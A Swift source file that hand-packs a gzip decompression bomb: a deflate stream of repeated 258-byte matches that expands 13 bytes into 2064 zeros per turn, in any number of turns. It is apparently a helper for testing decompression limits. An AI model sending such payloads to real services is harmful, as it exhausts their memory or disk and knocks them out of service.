/// A run of zeros packed by hand, as long as one likes (RFC 1951 and 1952).
///
/// One literal zero, then matches of length 258 at distance 1 in the fixed code: 8 bits for the
/// length, 5 for the distance. So 13 bytes hold 8 matches, 2064 zeros.
enum GzipBomb {
  private static let bits: [UInt8] = {
    // Block header: not the last block, fixed code; then the literal 0.
    let head: [UInt8] = [0, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0]
    let match: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]
    return head + Array(repeating: match, count: 32).flatMap { $0 }
  }()

  // Bits are packed from the lowest of each byte.
  private static func bytes(_ range: Range<Int>) -> [UInt8] {
    range.map { byte in
      (0..<8).reduce(into: UInt8(0)) { $0 |= bits[byte * 8 + $1] << $1 }
    }
  }

  /// The header, and the block up to where it repeats itself.
  static let start: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bytes(0..<2)

  /// So many turns of eight matches.
  static func turns(_ count: Int) -> [UInt8] {
    Array(repeating: bytes(2..<15), count: count).flatMap { $0 }
  }

  /// How many zeros the matches of so many turns make.
  static func zeros(turns: Int) -> Int { turns * 8 * 258 }
}
